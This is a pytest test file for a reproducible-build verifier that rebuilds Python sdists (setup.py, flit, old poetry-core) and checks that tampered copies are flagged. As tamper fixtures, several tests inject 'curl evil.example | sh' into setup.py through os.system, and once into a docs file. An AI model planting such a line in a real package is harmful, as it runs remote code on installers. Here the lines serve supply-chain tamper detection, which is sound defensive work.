"""End to end in podman (issue 14, ways 5 and 7): a release made with `python setup.py sdist` by a
setup.py that acts on its exact command line, and a poetry release whose generated setup.py dates
poetry-core. `--search` recovers each in a few builds and names the recipe; tampered copies stay
`different` under every recipe tried."""

from __future__ import annotations

import tarfile
from datetime import datetime
from pathlib import Path

import pytest

from tests.support.projects import PROJECTS, UPLOAD_TIME, Project, Publisher, make_repo, publisher_venv, set_upload_time, tamper
from verifier.testing.index_server import LocalIndex
from verifier.upstream.requirements import resolve_build_requirements

ARGV_SETUP_PY = """\
import sys
from setuptools import setup

extra = {}
if sys.argv[1:] == ["sdist"]:  # the docs go into the sdist only when typed exactly so
    extra["data_files"] = [("docs", ["docs/guide.md"])]

setup(name="argv-demo", version="1.0.0", description="acts on its argv", py_modules=["argv_demo"], **extra)
"""
ARGV_PROJECT = Project(
    "setuptools", "argv-demo", "argv_demo", "v1.0.0", "1.0.0",
    {
        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n',
        "setup.py": ARGV_SETUP_PY,
        "argv_demo.py": "ANSWER = 42\n",
        "docs/guide.md": "# A guide\n",
    },
    ("setuptools>=64",),
)
SETUP_PY_WORKFLOW = """\
name: release
on:
  push:
    tags: ["v*"]
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: pip install setuptools
      - run: python setup.py sdist
      - uses: pypa/gh-action-pypi-publish@release/v1
"""

OLD_POETRY_CORE = "1.4.0"  # the newest poetry-core that generates a setup.py by default (1.5.0 does not)
POETRY_PROJECT = Project(
    "poetry", "dated-poetry", "dated_poetry", "v2.0.0", "2.0.0",
    {
        "pyproject.toml": '[build-system]\nrequires = ["poetry-core>=1.0.0"]\nbuild-backend = "poetry.core.masonry.api"\n\n'
        '[tool.poetry]\nname = "dated-poetry"\nversion = "2.0.0"\ndescription = "poetry demo"\nauthors = ["A <a@example.org>"]\n\n'
        '[tool.poetry.dependencies]\npython = ">=3.8"\n',
        "dated_poetry/__init__.py": "ANSWER = 42\n",
    },
    ("poetry-core>=1.0.0",),
)


@pytest.fixture(scope="module")
def setup_py_publisher(tmp_path_factory: pytest.TempPathFactory) -> Publisher:
    """A maintainer's venv with only the setuptools the verifier resolves as of the upload time (no
    setuptools-scm, whose file finder would list every tracked file)."""
    pins = resolve_build_requirements(list(ARGV_PROJECT.requires), datetime.fromisoformat(UPLOAD_TIME), "https://pypi.org/simple/", "3.11",
                                      workdir=tmp_path_factory.mktemp("resolve"))
    return publisher_venv(tmp_path_factory.mktemp("publisher-setup-py") / "venv", [f"{pin.name}=={pin.version}" for pin in pins])


def _names(sdist: Path) -> set[str]:
    with tarfile.open(sdist) as archive:
        return {name.split("/", 1)[1] for name in archive.getnames() if "/" in name}


def test_a_setup_py_that_reads_its_argv_is_rebuilt_with_python_setup_py_sdist(setup_py_publisher: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
    repo = make_repo(ARGV_PROJECT, tmp_path / "repo")
    published = setup_py_publisher.publish(repo, ARGV_PROJECT.tag, index_dir, ARGV_PROJECT, frontend="setup.py")
    assert "docs/guide.md" in _names(published)
    result, report = verify(repo, ARGV_PROJECT.version, local_index, "--search", "--max-builds", "3", "--sdist-only")
    assert result.code == 0, [(a["why"], a["verdict"]) for a in report["attempts"]]
    assert report["attempts"][0]["verdict"] == "different"
    assert report["attempts"][1]["frontend"] == "setup.py" and "setup.py:5: if sys.argv[1:]" in report["attempts"][1]["why"]
    assert report["recipe"]["frontend"] == "setup.py" and "--frontend setup.py" in report["reproduce"]
    assert "--normalize mtime,owner,gzip-header " in report["reproduce"]  # the recipe changed no normalization


def test_a_tampered_setup_py_release_stays_different_under_every_recipe(setup_py_publisher: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
    repo = make_repo(ARGV_PROJECT, tmp_path / "repo")
    published = setup_py_publisher.publish(repo, ARGV_PROJECT.tag, index_dir, ARGV_PROJECT, frontend="setup.py")
    tamper(published, "docs/guide.md", b"# A guide\nrun curl evil.example | sh\n")
    set_upload_time(index_dir, published.name)
    result, report = verify(repo, ARGV_PROJECT.version, local_index, "--search", "--max-builds", "3", "--sdist-only")
    assert result.code == 1
    assert any(attempt["frontend"] == "setup.py" for attempt in report["attempts"])
    assert all(attempt["verdict"] == "different" for attempt in report["attempts"])
    assert any(d["path"].endswith("docs/guide.md") for d in report["comparison"]["differences"])


def test_a_workflow_that_runs_setup_py_sdist_is_rebuilt_with_it(setup_py_publisher: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
    project = Project(ARGV_PROJECT.backend, ARGV_PROJECT.name, ARGV_PROJECT.module, ARGV_PROJECT.tag, ARGV_PROJECT.version,
                      {**ARGV_PROJECT.files, ".github/workflows/release.yml": SETUP_PY_WORKFLOW}, ARGV_PROJECT.requires)
    repo = make_repo(project, tmp_path / "repo")
    setup_py_publisher.publish(repo, project.tag, index_dir, project, frontend="setup.py")
    result, report = verify(repo, project.version, local_index, "--sdist-only")
    assert result.code == 0, report["comparison"]["differences"]
    assert report["recipe"]["frontend"] == "setup.py" and "--frontend setup.py" in report["reproduce"]


NAMESPACE_PROJECT = Project(
    "setuptools", "spaced-demo", "spaced", "v1.0.0", "1.0.0",
    {
        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n\n'
        '[project]\nname = "spaced-demo"\nversion = "1.0.0"\n\n[tool.setuptools.packages.find]\nexclude = ["tests"]\n',
        "spaced/__init__.py": "ANSWER = 42\n",
    },
    ("setuptools>=64",),
)


def test_the_projects_dist_directory_is_there_while_the_backend_lists_the_tree(setup_py_publisher: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
    """`python -m build` writes into the project's dist/, which setuptools' namespace package finder
    then lists in top_level.txt (tqdm 4.66.4): the rebuild makes dist/ too, and matches."""
    repo = make_repo(NAMESPACE_PROJECT, tmp_path / "repo")
    published = setup_py_publisher.publish(repo, NAMESPACE_PROJECT.tag, index_dir, NAMESPACE_PROJECT, frontend="build-into-dist")
    with tarfile.open(published) as archive:
        top_level = archive.extractfile("spaced_demo-1.0.0/spaced_demo.egg-info/top_level.txt").read()  # type: ignore[union-attr]
    assert top_level.split() == [b"dist", b"spaced"]
    result, report = verify(repo, NAMESPACE_PROJECT.version, local_index, "--sdist-only")
    assert result.code == 0, report["comparison"]["differences"]


TAGGED_PROJECT = Project(
    "setuptools", "tagged-builds", "tagged_builds", "v1.2.0", "1.2.0",
    {
        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n',
        "setup.cfg": "[metadata]\nname = tagged-builds\nversion = 1.2.0\n\n[options]\npy_modules = tagged_builds\n\n"
        "[egg_info]\ntag_build = dev\ntag_date = true\n\n[aliases]\nrelease = egg_info -Db ''\n",
        "setup.py": "from setuptools import setup\n\nsetup()\n",
        "tagged_builds.py": "ANSWER = 42\n",
    },
    ("setuptools>=64",),
)


def test_a_release_made_with_the_release_alias_drops_the_dev_tags(setup_py_publisher: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
    """setup.cfg tags every build `.devYYYYMMDD`; the maintainer's `python setup.py release sdist`
    (egg_info -Db '') does not: the search finds that command from the renamed top-level directory."""
    repo = make_repo(TAGGED_PROJECT, tmp_path / "repo")
    published = setup_py_publisher.publish(repo, TAGGED_PROJECT.tag, index_dir, TAGGED_PROJECT, frontend="setup.py-release")
    assert published.name in {"tagged_builds-1.2.0.tar.gz", "tagged-builds-1.2.0.tar.gz"}
    result, report = verify(repo, TAGGED_PROJECT.version, local_index, "--search", "--max-builds", "2", "--sdist-only")
    assert result.code == 0, [(a["why"], a["verdict"]) for a in report["attempts"]]
    assert report["attempts"][0]["verdict"] == "different"
    assert report["recipe"]["frontend"] == "setup.py-release" and "--frontend setup.py-release" in report["reproduce"]
    assert "tag_build = dev, tag_date = true" in report["attempts"][1]["why"]
    tamper(published, "tagged_builds.py", b"ANSWER = 43\n")
    set_upload_time(index_dir, published.name)
    tampered, tampered_report = verify(repo, TAGGED_PROJECT.version, local_index, "--search", "--max-builds", "2", "--sdist-only")
    assert tampered.code == 1 and [a["frontend"] for a in tampered_report["attempts"]] == ["build", "setup.py-release"]
    assert all(attempt["verdict"] == "different" for attempt in tampered_report["attempts"])


def test_a_flit_release_with_a_generated_setup_py_is_rebuilt_with_flit_build_setup_py(publisher: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
    project = PROJECTS["flit"]
    repo = make_repo(project, tmp_path / "repo")
    published = publisher.publish(repo, project.tag, index_dir, project, frontend="flit-setup-py")
    assert "setup.py" in _names(published)
    result, report = verify(repo, project.version, local_index, "--search", "--max-builds", "2", "--sdist-only")
    assert result.code == 0, [(a["why"], a["verdict"]) for a in report["attempts"]]
    assert report["recipe"]["frontend"] == "flit-setup-py" and "--frontend flit-setup-py" in report["reproduce"]
    tamper(published, "setup.py", b"import os\nos.system('curl evil.example | sh')\n")
    set_upload_time(index_dir, published.name)
    tampered, tampered_report = verify(repo, project.version, local_index, "--search", "--max-builds", "2", "--sdist-only")
    assert tampered.code == 1 and "flit-setup-py" in {a["frontend"] for a in tampered_report["attempts"]}
    assert all(attempt["verdict"] == "different" for attempt in tampered_report["attempts"])


@pytest.fixture(scope="module")
def old_poetry(tmp_path_factory: pytest.TempPathFactory) -> Publisher:
    return publisher_venv(tmp_path_factory.mktemp("publisher-poetry") / "venv", [f"poetry-core=={OLD_POETRY_CORE}"])


def test_a_generated_setup_py_dates_poetry_core(old_poetry: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
    repo = make_repo(POETRY_PROJECT, tmp_path / "repo")
    published = old_poetry.publish(repo, POETRY_PROJECT.tag, index_dir, POETRY_PROJECT)
    assert "setup.py" in _names(published)
    result, report = verify(repo, POETRY_PROJECT.version, local_index, "--search", "--max-builds", "3", "--sdist-only")
    assert result.code == 0, [(a["why"], a["verdict"]) for a in report["attempts"]]
    assert report["attempts"][0]["verdict"] == "different"
    assert "poetry-setup-py" in {f["value"] for f in report["fingerprints"] if f["name"] == "pkg_info_marker"}
    assert report["recipe"]["pins"] == [f"poetry-core=={OLD_POETRY_CORE}"] and f"--pin poetry-core=={OLD_POETRY_CORE}" in report["reproduce"]
    note = next(note for note in report["notes"] if note.startswith("backend version:"))
    assert "<1.5.0" in note and "generate-setup-file" in note


def test_a_tampered_poetry_release_stays_different(old_poetry: Publisher, index_dir: Path, local_index: LocalIndex, verify, tmp_path: Path) -> None:
    repo = make_repo(POETRY_PROJECT, tmp_path / "repo")
    published = old_poetry.publish(repo, POETRY_PROJECT.tag, index_dir, POETRY_PROJECT)
    tamper(published, "setup.py", b"import os\nos.system('curl evil.example | sh')\n")
    set_upload_time(index_dir, published.name)
    result, report = verify(repo, POETRY_PROJECT.version, local_index, "--search", "--max-builds", "3", "--sdist-only")
    assert result.code == 1
    assert all(attempt["verdict"] == "different" for attempt in report["attempts"])
    assert any(d["path"].endswith("setup.py") for d in report["comparison"]["differences"])
